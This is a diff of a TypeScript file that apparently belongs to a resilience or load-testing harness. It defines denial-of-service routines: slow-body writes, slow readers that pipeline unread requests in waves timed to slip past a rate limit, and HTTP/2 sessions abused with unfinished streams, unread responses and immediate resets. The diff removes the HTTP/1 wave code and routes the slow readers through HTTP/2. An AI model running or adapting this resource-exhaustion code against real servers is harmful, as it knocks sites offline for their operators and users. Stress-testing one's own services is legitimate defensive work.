@@ -41,67 +41,31 @@ const slowBodies: Attack = (context) =>
     return untilClosed(socket, context, () => socket.write('a'));
   });
 
-/**
- * Requests one after the other on a connection, whose responses are never read. With the small buffers of the attacker's host (container.ts), about sixty
- * pages fill the kernel of the site.
- */
-const PIPELINED = 80;
-/**
- * So many connections come one by one, until the limit of requests refuses the rest; the next wave comes when that limit, which looks back for 10 s, has
- * forgotten those that were served. Whoever asks all the time is refused before a connection is full.
- */
-const WAVE = { connections: 45, apartMs: 200, everyMs: 14_000 };
-
-const slowReaders: Attack = async (context) => {
-  const { signal } = context;
-  const unread: Promise<void>[] = [];
-  // It aborts while this waits.
-  const isOver = (): boolean => signal.aborted;
-  while (!signal.aborted) {
-    const next = pause(WAVE.everyMs, signal);
-    for (let count = 0; count < WAVE.connections && !isOver(); count += 1) {
-      unread.push(leaveUnread(context));
-      await pause(WAVE.apartMs, signal);
-    }
-    await next;
-  }
-  await Promise.all(unread);
-};
-
-/** Resolves when the connection is closed. */
-async function leaveUnread(context: AttackContext): Promise<void> {
-  const socket = await open(context);
-  if (socket === undefined) return;
-  context.counts.sent += PIPELINED;
-  socket.write(`${GET}\r\n`.repeat(PIPELINED));
-  socket.pause();
-  await new Promise<void>((resolve) => {
-    const end = (): void => void socket.destroy();
-    context.signal.addEventListener('abort', end, { once: true });
-    // A closed connection is only noticed by reading or writing; this writes.
-    const timer = setInterval(() => socket.write('\r\n'), 1_000);
-    socket.once('close', () => {
-      clearInterval(timer);
-      context.signal.removeEventListener('abort', end);
-      resolve();
-    });
-  });
-}
-
 /** Connections over HTTP/2 that open streams: requests without an end, responses that may not be sent, and streams that are reset at once. */
 const SESSIONS = 10;
 const STREAMS = 100;
 
-const http2Streams: Attack = async (context) => {
+type Abuse = 'unfinished' | 'unread' | 'reset';
+
+const http2Streams: Attack = (context) => keepSessions(context, ['unfinished', 'unread', 'reset']);
+
+/**
+ * Responses that may not be sent. Over HTTP/2 a client that takes nothing says so beforehand; over HTTP/1 the kernels take about sixty pages of this
+ * site for each connection (360 KB, measured), and the limit of requests allows hardly more than a dozen such connections.
+ */
+const slowReaders: Attack = (context) => keepSessions(context, ['unread']);
+
+/** Keeps {@link SESSIONS} connections over HTTP/2, each abused in one of these ways. */
+async function keepSessions(context: AttackContext, ways: readonly [Abuse, ...Abuse[]]): Promise<void> {
   await Promise.all(
     Array.from({ length: SESSIONS }, async (_, index) => {
       while (!context.signal.aborted) {
-        await abuseSession(context, (['unfinished', 'unread', 'reset'] as const)[index % 3] ?? 'reset');
+        await abuseSession(context, ways[index % ways.length] ?? ways[0]);
         await pause(200, context.signal);
       }
     }),
   );
-};
+}
 
 function openSession({ target, counts }: AttackContext, isRead: boolean): Promise<ClientHttp2Session | undefined> {
   const { host, port, isTls } = target;
@@ -126,7 +90,7 @@ function openSession({ target, counts }: AttackContext, isRead: boolean): Promis
   });
 }
 
-async function abuseSession(context: AttackContext, how: 'unfinished' | 'unread' | 'reset'): Promise<void> {
+async function abuseSession(context: AttackContext, how: Abuse): Promise<void> {
   const { counts, signal } = context;
   const session = await openSession(context, how !== 'unread');
   if (session === undefined) return;
